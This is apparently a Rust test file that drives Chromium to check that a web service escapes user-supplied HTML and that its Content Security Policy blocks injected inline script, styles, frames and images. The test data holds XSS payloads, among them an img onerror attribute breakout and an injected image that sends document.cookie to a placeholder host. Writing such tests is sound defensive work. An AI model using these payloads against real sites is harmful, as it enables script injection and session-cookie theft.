//! Text from others is shown as text, and none of it runs.

use anyhow::ensure;

use crate::service::Service;
use idem_test_support::browser::Chromium;

const KEY: &str = "<script>alert(1)</script>";
const SKU: &str = "\"><img src=x onerror=\"document.title='ran'\"><b>bold</b>";

pub(crate) async fn a_key_and_an_error_of_html_are_text(chromium: Chromium) -> anyhow::Result<()> {
    let service = Service::start().await?;
    let id = service.letter(KEY, SKU).await?;
    let tab = service.tab(&chromium).await?;
    let query: String = url::form_urlencoded::Serializer::new(String::new())
        .append_pair("key", KEY)
        .finish();
    for (path, place) in [
        ("letters".to_owned(), "tbody th"),
        (format!("letters?{query}"), "tbody th"),
        (format!("letters/{id}"), "h1"),
        (format!("story?{query}"), "h1"),
    ] {
        tab.go(&path).await?;
        tab.read(place, KEY).await?;
        ensure!(
            tab.ask::<u32>("document.querySelectorAll('main img, main b, main script').length")
                .await?
                == 0,
            "{path}"
        );
        ensure!(
            tab.ask::<String>("document.title").await? != "ran",
            "{path}"
        );
    }
    tab.go(&format!("letters/{id}")).await?;
    tab.read("pre", SKU).await?;
    ensure!(
        tab.ask::<String>("document.querySelector('#payload').value")
            .await?
            .contains("<b>bold</b>")
    );
    for path in ["overview", "groups"] {
        tab.go(path).await?;
        tab.read("main", "cannot place the order").await?;
        ensure!(
            tab.ask::<u32>("document.querySelectorAll('main img, main b, main script').length")
                .await?
                == 0,
            "{path}"
        );
    }
    tab.go(&format!("letters?{query}")).await?;
    ensure!(
        tab.ask::<String>("document.querySelector('#key').value")
            .await?
            == KEY
    );
    Ok(())
}

pub(crate) async fn the_policy_blocks_inline_script(chromium: Chromium) -> anyhow::Result<()> {
    let service = Service::start().await?;
    let tab = service.tab(&chromium).await?;
    // As if the escaping had missed something.
    let blocked: Vec<String> = tab
        .ask(
            "new Promise((done) => {
                const blocked = [];
                document.addEventListener('securitypolicyviolation', (event) => {
                    blocked.push(event.effectiveDirective);
                    if (blocked.length === 4) done(blocked.sort());
                });
                window.ran = false;
                const slip = document.createElement('script');
                slip.append('window.ran = true');
                document.body.append(slip);
                document.body.setAttribute('style', 'color: red');
                const frame = document.createElement('iframe');
                frame.src = 'https://elsewhere.example/';
                document.body.append(frame);
                const image = document.createElement('img');
                image.src = 'https://elsewhere.example/?' + document.cookie;
                document.body.append(image);
            })",
        )
        .await?;
    ensure!(
        blocked
            == [
                "frame-src",
                "img-src",
                "require-trusted-types-for",
                "style-src-attr"
            ],
        "{blocked:?}"
    );
    ensure!(
        !tab.ask::<bool>("window.ran").await?,
        "an inline script ran"
    );
    Ok(())
}
